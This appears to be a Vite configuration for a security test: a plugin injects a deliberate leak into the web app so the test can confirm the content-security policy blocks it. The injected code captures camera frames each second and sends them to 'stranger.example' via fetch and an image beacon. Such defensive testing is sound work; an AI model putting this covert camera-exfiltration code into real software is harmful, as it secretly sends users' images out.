import { defineConfig, mergeConfig, type Plugin } from 'vite'
import page from '../../web/vite.config.ts'

/**
 * The page with a leak planted in it, for the test that must find it: every second it sends the
 * camera's picture to our own server, which the content-security policy allows, and to a stranger,
 * which it does not. Nothing of this is in the product's build.
 */
const plantedLeak: Plugin = {
  name: 'planted-leak',
  transform(code, id) {
    if (!id.endsWith('/web/src/main.ts')) return null
    return `${code}
setInterval(() => {
  const video = document.querySelector('video')
  if (!video?.videoWidth) return
  const canvas = Object.assign(document.createElement('canvas'), { width: 160, height: 120 })
  canvas.getContext('2d').drawImage(video, 0, 0, 160, 120)
  const body = canvas.toDataURL('image/jpeg')
  fetch('/api/v1/results', { method: 'POST', body, headers: { 'content-type': 'application/json' } }).catch(() => {})
  fetch('http://stranger.example/', { method: 'POST', body, mode: 'no-cors' }).catch(() => {})
  new Image().src = 'http://stranger.example/?' + body.slice(0, 200)
}, 1000)`
  }
}

export default mergeConfig(page, defineConfig({ plugins: [plantedLeak] }))
